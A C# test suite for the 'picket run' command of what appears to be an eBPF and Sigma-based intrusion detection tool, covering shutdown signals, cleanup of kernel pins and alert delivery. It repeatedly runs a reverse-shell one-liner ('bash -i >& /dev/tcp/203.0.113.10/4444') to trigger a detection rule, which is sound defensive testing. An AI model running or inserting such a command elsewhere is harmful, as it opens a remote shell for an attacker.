using System.Runtime.Versioning;
using Picket.Spec.Live;

namespace Picket.Spec.Cli;

/// <summary><c>picket run</c> as a process: how it starts, is refused, stops and goes on.</summary>
[Collection(LiveCollection.Name)]
[SupportedOSPlatform("linux")]
public sealed class RunSpec
{
    private const string ReverseShell = "f14eb449-a05b-47b7-8557-70973f8b0c7d";
    private const string TotalsLine = @"(?m)^seen [0-9]+ events, matched [0-9]+, alerts written [0-9]+, lost 0, malformed 0$";
    private static readonly string[] ShellArguments = ["-c", "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"];

    [Fact]
    public async Task A_run_for_a_time_ends_by_itself_and_leaves_no_pins()
    {
        await using var node = new RunningNode();
        var result = await Cli.RunAsync(node.Arguments("--for", "1s"));
        result.IsDone();
        foreach (var line in (string[])["/node", "  /self", "  /alerts", "    /file", "  /detection", "    /shard-0", "      /sigma", "  /context", "  /ancestry", "    /writer", "  /sensors", "    /ebpf", "      /process"])
            Assert.Contains($"\n{line}\n", result.Out);
        Assert.Matches("(?m)^[1-9][0-9]* Sigma rules; alerts go to " + node.AlertsFile + "$", result.Out);
        Assert.Contains("\nwatching for 1 s\n", result.Out);
        Assert.Matches(TotalsLine, result.Out);
        Assert.EndsWith("the ledger balances\n", result.Out, StringComparison.Ordinal);
        Assert.False(Directory.Exists(node.Pins));
    }

    [Fact]
    public async Task An_interrupt_drains_and_says_what_was_seen_matched_and_lost()
    {
        await using var node = new RunningNode();
        await node.StartAsync();
        int[] pids = [.. Enumerable.Range(0, 50).Select(_ => node.Play("bash", ShellArguments))];
        var result = await node.EndAsync(RunningNode.SigInt);
        result.IsDone();
        Assert.Matches(TotalsLine, result.Out);
        Assert.Contains("the ledger balances", result.Out);
        Assert.DoesNotContain("not everything arrived", result.Out);
        Assert.All(pids, pid => Assert.Single(node.Alerts(ReverseShell, pid)));
        Assert.False(Directory.Exists(node.Pins));
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(node.AlertsFile));
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute, File.GetUnixFileMode(Path.GetDirectoryName(node.AlertsFile)!));
    }

    [Fact]
    public async Task An_interrupt_during_the_start_leaves_no_pins_either()
    {
        await using var node = new RunningNode();
        node.Launch();
        using var poll = new PeriodicTimer(TimeSpan.FromMilliseconds(1));
        using var limit = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        while (!Directory.Exists(node.Pins)) await poll.WaitForNextTickAsync(limit.Token);
        (await node.EndAsync(RunningNode.SigInt)).IsDone();
        Assert.False(Directory.Exists(node.Pins));
    }

    [Fact]
    public async Task A_terminated_node_is_succeeded_without_a_gap()
    {
        await using var node = new RunningNode();
        await node.StartAsync();
        var result = await node.EndAsync(RunningNode.SigTerm);
        result.IsDone();
        Assert.Contains($"rm -r {node.Pins}", result.Out);
        Assert.True(Directory.Exists(node.Pins));
        var meanwhile = node.Play("bash", ShellArguments);
        Assert.Empty(node.Alerts(ReverseShell, meanwhile));
        await node.StartAsync();
        (await node.EndAsync(RunningNode.SigInt)).IsDone();
        Assert.Single(node.Alerts(ReverseShell, meanwhile));
        Assert.False(Directory.Exists(node.Pins));
    }

    [Fact]
    public async Task A_closed_terminal_drains_like_a_termination_unless_the_node_was_to_outlive_it()
    {
        await using var node = new RunningNode();

        // A terminal of its own, which is closed when the program that holds it ends.
        var typescript = Path.Combine(node.Folder, "typescript");
        var line = string.Join(' ', ((IEnumerable<string>)[node.Program, .. node.Arguments()]).Select(word => $"'{word}'"));
        using (var terminal = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("script", ["-qefc", $"exec {line}", typescript])
            { RedirectStandardInput = true, RedirectStandardOutput = true })!)
        {
            await UntilAsync(() => File.Exists(typescript) && File.ReadAllText(typescript).Contains("\nwatching", StringComparison.Ordinal), "the node's start");
            var pid = node.Play("bash", ShellArguments);
            RunningNode.Signal(terminal.Id, RunningNode.SigKill);
            await terminal.WaitForExitAsync(TestContext.Current.CancellationToken);
            await UntilAsync(() => !File.Exists(Path.Combine(node.Folder, "state", "status.sock")), "the node's end");
            Assert.Single(node.Alerts(ReverseShell, pid));
            Assert.True(Directory.Exists(node.Pins));
        }

        // The shell hangs up on the node as soon as it watches; the node goes on to the end of its time.
        var out1 = Path.Combine(node.Folder, "out");
        var outliving = await Cli.RunFromShellAsync(
            $"trap '' HUP; \"$0\" \"$@\" > {out1} & until grep -qs ^watching {out1}; do sleep 0.05; done; kill -HUP $!; wait $!",
            node.Arguments("--for", "2s"));
        outliving.IsDone();
        Assert.Matches("(?m)^seen [0-9]+ events", await File.ReadAllTextAsync(out1, TestContext.Current.CancellationToken));
        Assert.False(Directory.Exists(node.Pins));
    }

    private static async Task UntilAsync(Func<bool> condition, string what)
    {
        using var poll = new PeriodicTimer(TimeSpan.FromMilliseconds(20));
        for (var started = TimeProvider.System.GetTimestamp(); !condition();)
        {
            Assert.True(TimeProvider.System.GetElapsedTime(started) < TimeSpan.FromSeconds(60), $"waited 60 s for {what}");
            await poll.WaitForNextTickAsync(TestContext.Current.CancellationToken);
        }
    }

    [Theory]
    [InlineData("exec \"$0\" \"$@\" > /dev/full")]
    [InlineData("\"$0\" \"$@\" | true")]
    public async Task A_console_that_takes_nothing_stops_no_node_and_leaves_no_pins(string line)
    {
        await using var node = new RunningNode();
        var run = Cli.RunFromShellAsync(line, node.Arguments("-o", "alerts.console.enabled=true", "--for", "3s"));
        using var poll = new PeriodicTimer(TimeSpan.FromMilliseconds(50));
        List<int> pids = [];
        while (!run.IsCompleted && !pids.Exists(pid => node.Alerts(ReverseShell, pid).Count > 0))
        {
            await poll.WaitForNextTickAsync(TestContext.Current.CancellationToken);
            if (Directory.Exists(node.Pins)) pids.Add(node.Play("bash", ShellArguments));
        }

        var result = await run;
        result.IsDone();
        Assert.Contains(pids, pid => node.Alerts(ReverseShell, pid).Count == 1);
        Assert.False(Directory.Exists(node.Pins));
    }

    [Fact]
    public async Task Two_nodes_never_write_into_one_alert_file()
    {
        await using var node = new RunningNode();
        await using var other = new RunningNode();
        await node.StartAsync();
        string[] arguments = [.. other.Arguments()];
        arguments[Array.IndexOf(arguments, "--alerts") + 1] = node.AlertsFile;
        (await Cli.RunAsync(arguments)).IsRefused(2, $"{node.AlertsFile}: another node writes its alerts to this file");
        Assert.False(Directory.Exists(other.Pins));
        var pid = node.Play("bash", ShellArguments);
        Assert.NotEqual(0, (await node.EndAsync(RunningNode.SigKill)).Code);

        // The kernel frees what a killed node held.
        (await Cli.RunAsync([.. arguments, "--for", "1s"])).IsDone();
        await node.StartAsync();
        (await node.EndAsync(RunningNode.SigInt)).IsDone();
        Assert.Single(node.Alerts(ReverseShell, pid));
    }

    [Fact]
    public async Task A_folder_without_rules_is_said_to_detect_nothing()
    {
        await using var node = new RunningNode();
        var rules = Path.Combine(node.Folder, "rules");
        Directory.CreateDirectory(rules);
        var result = await Cli.RunAsync(node.Arguments("--rules", rules, "--for", "1s"));
        Assert.Equal((0, $"picket: warning: there is no usable rule in {rules}: nothing will be detected\n"), (result.Code, result.Error));
    }

    [Fact]
    public async Task A_killed_node_is_succeeded_without_a_gap_and_without_a_repeat()
    {
        await using var node = new RunningNode();
        await node.StartAsync();
        List<int> pids = [.. Enumerable.Range(0, 20).Select(_ => node.Play("bash", ShellArguments))];
        Assert.NotEqual(0, (await node.EndAsync(RunningNode.SigKill)).Code);
        pids.AddRange(Enumerable.Range(0, 20).Select(_ => node.Play("bash", ShellArguments)));
        await node.StartAsync();
        (await node.EndAsync(RunningNode.SigInt)).IsDone();
        Assert.All(pids, pid => Assert.Single(node.Alerts(ReverseShell, pid)));
    }

    [Fact]
    public async Task A_second_node_on_the_same_pins_is_refused_and_the_first_goes_on()
    {
        await using var node = new RunningNode();
        await node.StartAsync();
        (await Cli.RunAsync(node.Arguments("-o", $"node.data-dir={node.Folder}/other"))).IsRefused(3, node.Pins);
        var pid = node.Play("bash", ShellArguments);
        (await node.EndAsync(RunningNode.SigInt)).IsDone();
        Assert.Single(node.Alerts(ReverseShell, pid));
    }

    [Fact]
    public async Task Without_the_privileges_all_that_is_missing_is_said_with_what_to_do()
    {
        await using var node = new RunningNode();
        (await Cli.RunPowerlessAsync(node.Arguments("-o", "sensors.logs.enabled=false", "-o", "sensors.ebpf.pin-path=/tmp/picket-no-bpffs"))).IsRefused(
            3, "the right to load BPF programs: run as root, or give CAP_BPF", "a bpffs for /tmp/picket-no-bpffs: mount -t bpf");
        Assert.False(Directory.Exists("/tmp/picket-no-bpffs"));
    }

    [Fact]
    public async Task A_start_that_fails_leaves_nothing_in_the_kernel()
    {
        await using var node = new RunningNode();
        var notAFolder = Path.Combine(node.Folder, "file");
        await File.WriteAllTextAsync(notAFolder, "", TestContext.Current.CancellationToken);
        (await Cli.RunAsync(node.Arguments("-o", $"node.data-dir={notAFolder}"))).IsRefused(2, notAFolder);
        Assert.False(Directory.Exists(node.Pins), "the pins stayed");
        string[] arguments = [.. node.Arguments()];
        arguments[Array.IndexOf(arguments, "--alerts") + 1] = Path.Combine(notAFolder, "alerts.ndjson");
        (await Cli.RunAsync(arguments)).IsRefused(2, Path.Combine(notAFolder, "alerts.ndjson"));
        Assert.False(Directory.Exists(node.Pins), "the pins stayed");
    }

    [Fact]
    public async Task A_start_that_fails_leaves_what_an_earlier_run_left()
    {
        await using var node = new RunningNode();
        await node.StartAsync();
        (await node.EndAsync(RunningNode.SigTerm)).IsDone();
        var meanwhile = node.Play("bash", ShellArguments);
        (await Cli.RunAsync(node.Arguments("-o", "node.data-dir=/proc/picket"))).IsRefused(2, "/proc/picket");
        await node.StartAsync();
        var end = await node.EndAsync(RunningNode.SigInt);
        end.IsDone();
        var alerts = node.Alerts(ReverseShell, meanwhile);
        Assert.True(alerts.Count == 1, $"{alerts.Count} alerts; {end.Out}");
    }

    [Fact]
    public async Task A_broken_rule_is_named_and_the_others_watch()
    {
        await using var node = new RunningNode();
        var rules = Path.Combine(node.Folder, "rules");
        Directory.CreateDirectory(rules);
        File.Copy(Path.Combine(Corpora.Root, "config", "rules", "sigma", "execution_reverse_shell.yml"), Path.Combine(rules, "shell.yml"));
        var broken = Path.Combine(rules, "broken.yml");
        await File.WriteAllTextAsync(broken, "title: broken\ndetection:\n  sel: { Image: x\n", TestContext.Current.CancellationToken);
        await node.StartAsync("--rules", rules);
        var pid = node.Play("bash", ShellArguments);
        var result = await node.EndAsync(RunningNode.SigInt);
        Assert.Equal(0, result.Code);
        Assert.Contains($"picket: {broken}(", result.Error);
        Assert.Contains("\n1 Sigma rules;", result.Out);
        Assert.Single(node.Alerts(ReverseShell, pid));
    }
}
